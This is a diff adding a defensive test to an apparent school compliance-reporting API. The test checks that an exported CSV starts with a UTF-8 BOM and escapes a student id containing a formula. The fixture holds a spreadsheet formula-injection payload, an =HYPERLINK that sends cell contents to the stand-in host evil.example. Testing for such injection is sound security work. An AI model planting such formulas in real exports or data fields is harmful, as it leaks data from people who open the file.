@@ -140,4 +140,21 @@ describe.each(ENGINES)('indicator and exiting reports on %s', (engine) => {
     const principal = (await (await t.signIn(DEMO.principal)).get('/api/v1/compliance/summary')).json() as { abilities: { downloadReports: boolean } };
     expect(principal.abilities.downloadReports).toBe(false);
   });
+
+  it('a report opens safely in a spreadsheet: UTF-8 BOM first, a local id typed as a formula neutralized', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"L1002")';
+    await t.db.query(`UPDATE students SET local_id = $1 WHERE local_id = 'L1002'`, [formula]);
+    try {
+      const res = await admin.get('/api/v1/reports/indicator-13.csv');
+      expect(res.statusCode, res.body).toBe(200);
+      expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+      const { children } = split(parseCsv(res.body));
+      const listed = children.map((c) => c[3]);
+      expect(listed).toContain(`'${formula}`);
+      expect(listed).not.toContain(formula);
+      expect(res.body).not.toMatch(/(^|,)=HYPERLINK/m);
+    } finally {
+      await t.db.query(`UPDATE students SET local_id = 'L1002' WHERE local_id = $1`, [formula]);
+    }
+  });
 });
